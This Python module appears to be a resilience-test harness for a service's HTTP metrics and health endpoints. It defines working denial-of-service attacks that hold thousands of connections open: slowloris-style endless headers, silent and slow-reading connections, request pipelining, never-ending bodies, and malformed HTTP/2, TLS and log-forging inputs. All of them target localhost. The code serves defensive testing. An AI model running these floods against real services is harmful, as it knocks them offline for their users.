"""What a process that reaches a handler's HTTP ports can do, one attack a function. It needs no login and no pod.

As in attacks.py, an attack is an iterator that never ends by itself; each step says how many of its units it did.
"""

import itertools
import resource
import select
import socket
from collections.abc import Callable, Iterator
from dataclasses import dataclass

from servicestatus.file_limit import raise_file_limit

Steps = Iterator[int]
Attack = Callable[[int], Steps]

HTTP_ATTACKS: dict[str, Attack] = {}

#: Connections that one attacker holds: as many as killed a handler in 55 s, or as this process may have.
MANY = min(18_000, resource.getrlimit(resource.RLIMIT_NOFILE)[1] - 200) // 2
#: Connections that are opened in one step.
AT_ONCE = 50
HEAD = b"GET /metrics HTTP/1.1\r\nHost: pod\r\n"
ENDED = select.EPOLLHUP | select.EPOLLERR | select.EPOLLRDHUP


def attack(run: Attack) -> Attack:
    HTTP_ATTACKS[run.__name__.replace("_", "-")] = run
    return run


@dataclass(frozen=True)
class Words:
    """What one connection sends."""

    first: bytes
    #: Sent again and again, as fast as it is taken.
    then: bytes = b""
    #: Whether it reads what it is sent, and then asks again.
    reads: bool = False


def crowd(port: int, many: int, words: Callable[[int], Words]) -> Steps:
    """Hold so many connections, from eight addresses; one that the server ends is opened again.

    As eight pods would do it, whose addresses are not that of the node, from which the kubelet probes.
    """
    raise_file_limit()
    poll = select.epoll()
    held: dict[int, tuple[socket.socket, Words]] = {}
    numbers = itertools.count()
    while True:
        opened = min(AT_ONCE, many - len(held))
        for number in itertools.islice(numbers, opened):
            one = _dial(port, f"127.0.0.{2 + number % 8}")
            held[one.fileno()] = one, words(number)
            poll.register(one, select.EPOLLOUT)
        for fd, event in poll.poll(0.01, AT_ONCE * 4):
            one, said = held[fd]
            if event & ENDED or not _go_on(one, said, event):
                held.pop(fd)[0].close()
            elif said.then:
                held[fd] = one, Words(said.then, said.then)
            else:
                poll.modify(fd, select.EPOLLRDHUP | (select.EPOLLIN if said.reads else 0))
        yield opened


def _dial(port: int, source: str) -> socket.socket:
    one = socket.socket()
    one.setblocking(False)
    one.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 2048)
    one.bind((source, 0))
    one.connect_ex(("127.0.0.1", port))
    return one


def _go_on(one: socket.socket, said: Words, event: int) -> bool:
    """Send or read a bit; returns whether the connection lasts."""
    try:
        if event & select.EPOLLIN and not one.recv(65_536):
            return False
        one.send(said.first)
    except BlockingIOError:
        return True
    except OSError:
        return False
    return True


@attack
def half_requests(port: int) -> Steps:
    """A head that never ends, on thousands of connections."""
    return crowd(port, MANY, lambda _: Words(HEAD + b"X-Filler: " + b"x" * 2000))


@attack
def mute(port: int) -> Steps:
    """Not a byte, on as many."""
    return crowd(port, MANY, lambda _: Words(b""))


@attack
def scrapers(port: int) -> Steps:
    """Hundreds that ask, read, and ask again; half of them in one form, half in the other."""
    forms = [b"text/plain", b"application/openmetrics-text;version=1.0.0"]
    return crowd(port, 600, lambda number: Words(HEAD + b"Accept: " + forms[number % 2] + b"\r\n\r\n", reads=True))


@attack
def probes(port: int) -> Steps:
    """As many that ask for the least that there is."""
    return crowd(port, 300, lambda _: Words(b"GET /healthz HTTP/1.1\r\nHost: pod\r\n\r\n", reads=True))


@attack
def slow_readers(port: int) -> Steps:
    """They ask, and read nothing."""
    return crowd(port, MANY, lambda _: Words(HEAD + b"\r\n"))


@attack
def pipelines(port: int) -> Steps:
    """Requests without end on each connection; no answer is read."""
    return crowd(port, 300, lambda _: Words(b"", (HEAD + b"\r\n") * 100))


@attack
def endless_heads(port: int) -> Steps:
    """Header after header."""
    return crowd(port, 300, lambda _: Words(HEAD, b"X-Filler: " + b"x" * 1000 + b"\r\n"))


@attack
def endless_lines(port: int) -> Steps:
    """One header without an end."""
    return crowd(port, 300, lambda _: Words(HEAD + b"X-Filler: ", b"x" * 1000))


@attack
def endless_bodies(port: int) -> Steps:
    """Of a request that has none, by its length and in chunks."""
    length, chunks = b"Content-Length: 1000000000000", b"Transfer-Encoding: chunked"
    chunk = b"1000\r\n" + b"x" * 0x1000 + b"\r\n"
    return crowd(
        port,
        300,
        lambda number: Words(HEAD + (length, chunks)[number % 2] + b"\r\n\r\n", (b"x" * 4096, chunk)[number % 2]),
    )


@attack
def something_else(port: int) -> Steps:
    """HTTP/2, TLS, an upgrade, a version that makes prometheus_client stumble, and words that forge lines of a log."""
    words = [
        b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + bytes(9) * 100,
        bytes.fromhex("16030100c8010000c40303") + bytes(180),
        HEAD + b"Connection: Upgrade\r\nUpgrade: h2c\r\n\r\n" + bytes(10_000),
        HEAD + b"Accept: application/openmetrics-text;version=x\r\n\r\n",
        HEAD + b"Accept: text/plain;version=y\r\n\r\n",
        b"\x1b[2J\nINFO handler_service: forged\r\n\r\n",
        b"GET /\x1b[2J\nforged HTTP/1.1\r\n\r\n",
        b"GET http://[/ HTTP/1.1\r\nHost: pod\r\n\r\n",
        b"CONNECT pod:x HTTP/1.1\r\nHost: pod\r\n\r\n",
    ]
    return crowd(port, 300, lambda number: Words(words[number % len(words)], reads=True))
